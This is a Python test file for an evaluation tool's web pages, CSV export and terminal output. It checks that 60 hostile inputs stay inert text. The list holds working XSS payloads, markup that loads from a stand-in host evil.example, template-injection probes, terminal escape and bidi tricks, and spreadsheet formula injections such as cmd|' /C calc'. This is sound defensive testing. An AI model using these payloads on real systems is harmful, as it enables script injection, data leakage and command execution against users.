"""60 answers that want to run, load or fool something, through every page and the terminal: all of them stay text."""

import csv
import subprocess
import sys
import threading

import pytest

from ift.apps.local_page import PageServer
from ift.apps.review import Review
from ift.evaluation.answers import open_answers
from ift.evaluation.people import Rating, Ratings, write_csv
from ift.pages.comparison import compare
from ift.pages.report import write_report
from ift.run import RunFolder, write_json, write_jsonl
from tests.running import ROOT

HOSTILE = [
    "<script>window.hacked=1</script>",
    "<ScRiPt>window.hacked=1</sCrIpT>",
    "</script><script>window.hacked=1</script>",
    "<script src=http://evil.example/x.js></script>",
    "<script>alert(1)</script>",
    "<svg><script>window.hacked=1</script></svg>",
    "<img src=x onerror=window.hacked=1>",
    "<img src=http://evil.example/pixel.png>",
    "<img src='http://evil.example/?' onload='window.hacked=1'>",
    "<body onload=window.hacked=1>",
    "<svg onload=window.hacked=1>",
    "<svg/onload=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    "<video><source onerror=window.hacked=1></video>",
    "<audio src=x onerror=window.hacked=1>",
    "<iframe src=javascript:parent.hacked=1></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<iframe src=http://evil.example/></iframe>",
    "<object data=http://evil.example/x.swf></object>",
    "<embed src=http://evil.example/x.swf>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=prefetch href=http://evil.example/>",
    "<style>body{background:url(http://evil.example/bg.png)}</style>",
    "<style>*{display:none}</style>",
    "</style><script>window.hacked=1</script>",
    "<div style='position:fixed;inset:0;background:url(http://evil.example/a.png)'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><button autofocus>ok</button></form>",
    "<a href=javascript:window.hacked=1 id=a>click</a>",
    "<a href=http://evil.example/ ping=http://evil.example/ping>link</a>",
    "<title>hacked</title>",
    "</title><script>window.hacked=1</script>",
    "</textarea><script>window.hacked=1</script>",
    "</article></main><script>window.hacked=1</script>",
    "--><script>window.hacked=1</script><!--",
    "]]><script>window.hacked=1</script>",
    "\"><script>window.hacked=1</script>",
    "'><script>window.hacked=1</script>",
    "\" onmouseover=window.hacked=1 autofocus onfocus=window.hacked=1 x=\"",
    "' onfocus='window.hacked=1' autofocus='",
    "` onfocus=window.hacked=1 autofocus `",
    "{{ 7*7 }}{{ ''.__class__.__mro__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "![x](http://evil.example/leak.png)",
    "[x](javascript:window.hacked=1)",
    "<!DOCTYPE html><html><head><script>window.hacked=1</script></head></html>",
    "<math><mtext><script>window.hacked=1</script></mtext></math>",
    "<template><script>hacked=1</script></template><noscript><p title='</noscript><img src=x onerror=hacked=1>'>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-",
    "\u2028window.hacked=1\u2029//",
    "\x1b[31mred\x1b[0m\x1b]0;hacked\x07\x1b[2J\x1b[H",
    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "safe \u202egnp.exe\u202c \u200bzero\u2066width",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0\t-2+3",
]  # fmt: skip


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    """Two runs in which every text is hostile, names and settings too, with reasons of a judge and comments."""
    top = tmp_path_factory.mktemp("hostile")
    for name, turn in (("<img src=x onerror=hacked=1>", 0), ('b" onfocus="hacked=1', 1)):
        run = RunFolder(top / name)
        run.path.mkdir()
        rows = [
            {"instruction": text, "input": text, "reference": HOSTILE[i - 1], "response": HOSTILE[i - turn]}
            | {"category": text, "stop_reason": text, "response_tokens": 1, "file": text, "row": i}
            for i, text in enumerate(HOSTILE)
        ]
        write_jsonl(run.responses, rows)
        write_jsonl(run.metrics, [{"step": i, "tokens": i, "train/loss": 2.0, "val/loss": 2.0} for i in range(3)])
        samples = [
            {"step": s, "instruction": t, "input": t, "response": t, "reference": t} for s in (0, 2) for t in HOSTILE
        ]
        write_jsonl(run.samples, samples)
        write_json(run.summary, {"best_step": 2})
        run.config.write_text("".join(f"key{i}: {turn}{text!r}\n" for i, text in enumerate(HOSTILE[:9])))
        answers, ratings = open_answers(run.path).rows, Ratings(run.ratings)
        for answer in answers[::2]:
            ratings.set(answer.key, Rating("wrong", 1, answer.response))
        judged = run.evals / "judge-<script>hacked=1<"
        judged.mkdir(parents=True)
        write_json(judged / "results.json", {"scale": [0, 100], "valid": True, "judge": {"against": None}})
        write_jsonl(judged / "samples.jsonl", [{"key": a.key, "score": 3.0, "reason": a.response} for a in answers])
    return top


def runs(folder):
    return sorted(path for path in folder.iterdir() if path.is_dir())


def texts(browser):
    """All that the page shows, as a browser took it apart."""
    return browser.js("document.body.textContent")


def look(browser, allowed):
    """Nothing ran, nothing was loaded, no element is there that the page's own template does not have."""
    assert browser.js("typeof window.hacked") == "undefined"
    assert browser.js("document.title").endswith("ift")
    assert browser.complaints == []
    assert [
        url for url in browser.requests if not url.startswith(("file:", "http://127.0.0.1", "data:image/png"))
    ] == []
    foreign = "script,iframe,object,embed,link,base,style,form,video,audio,template,math,img,title"
    found = browser.js(f"[...document.querySelectorAll('{foreign}')].map(e => e.localName).sort()")
    assert found == sorted(allowed)
    handlers = "[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(n => n.startsWith('on'))"
    assert browser.js(handlers) == []


def test_there_are_60_of_them():
    assert len(set(HOSTILE)) == 60


def test_compare_shows_them_all_as_text(browser, folder, capsys):
    page = folder / "compare.html"
    lines = compare(runs(folder), page)
    browser.open(page.as_uri())
    look(
        browser, ["script", "style", "title"] + ["title"] * browser.js("document.querySelectorAll('svg title').length")
    )
    text = texts(browser)
    assert all(hostile in text for hostile in HOSTILE if hostile.isprintable())
    assert "⟨U+001B⟩[31mred" in text
    assert "⟨U+202E⟩gnp.exe" in text
    assert "\x1b" not in page.read_text()
    assert all(line.isprintable() for line in lines)


def test_review_shows_them_all_as_text_and_rates_them(browser, folder):
    run = runs(folder)[0]
    server = PageServer(Review([open_answers(run)], blind=False), 0)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        browser.open(f"http://127.0.0.1:{server.port}/")
        text = ""
        for _ in range(len(HOSTILE)):
            browser.wait_until("drawn !== null && drawn === card()")
            text += texts(browser)
            browser.press("2", "ArrowRight")
        browser.wait_until("document.getElementById('saved').textContent === 'saved'")
        look(browser, ["script", "style", "title"])
        assert all(hostile in text for hostile in HOSTILE if hostile.isprintable())
        paths = {url.rpartition("/")[2] for url in browser.requests}
        assert paths <= {"", "open", "items", "rate", "news"}
        assert {url.rpartition("/")[0] for url in browser.requests} == {f"http://127.0.0.1:{server.port}"}
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize("page", ["compare", "review", "report"])
def test_if_markup_did_get_through_the_browser_would_still_run_and_load_nothing(browser, folder, page):
    server = PageServer(Review([open_answers(runs(folder)[0])], blind=False), 0)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        if page == "review":
            browser.open(f"http://127.0.0.1:{server.port}/")
        elif page == "compare":
            compare(runs(folder), folder / "compare.html")
            browser.open((folder / "compare.html").as_uri())
        else:
            write_report(RunFolder(runs(folder)[0]))
            browser.open(RunFolder(runs(folder)[0]).report.as_uri())
        browser.js("window.refused = []; addEventListener('securitypolicyviolation', e => refused.push(e.blockedURI))")
        markup = "<img src=http://evil.example/a.png onerror=hacked=1><iframe src=http://evil.example/></iframe>"
        browser.js(f"document.body.insertAdjacentHTML('beforeend', {markup + '<b onclick=hacked=1 id=it>b</b>'!r})")
        browser.js("const s = document.createElement('script'); s.text = 'window.hacked = 1'; document.body.append(s)")
        browser.js("document.getElementById('it').click()")
        browser.wait_until("refused.length >= 4")
        assert browser.js("typeof window.hacked") == "undefined"
        assert {"http://evil.example/a.png", "http://evil.example"} <= set(browser.js("refused"))
    finally:
        server.shutdown()
        server.server_close()


def test_the_report_shows_them_all_as_text(browser, folder):
    run = RunFolder(runs(folder)[0])
    write_report(run)
    browser.open(run.report.as_uri())
    titles = browser.js("document.querySelectorAll('svg title').length")
    look(browser, ["script", "style", "title"] + ["title"] * titles)
    text = texts(browser)
    assert all(hostile in text for hostile in HOSTILE if hostile.isprintable())


def test_their_csv_holds_no_formula_and_the_terminal_gets_no_escape_code(folder, tmp_path):
    answers = open_answers(runs(folder)[1])
    write_csv(tmp_path / "r.csv", answers.rows, Ratings(answers.run.ratings, read_only=True).raters)
    with (tmp_path / "r.csv").open(newline="") as file:
        cells = [cell for line in csv.reader(file) for cell in line]
    assert len(cells) == 61 * 9
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    command = [
        sys.executable,
        "-m",
        "ift.cli",
        "compare",
        *map(str, runs(folder)),
        "--output",
        str(tmp_path / "p.html"),
    ]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr
    assert b"\x1b" not in done.stdout + done.stderr
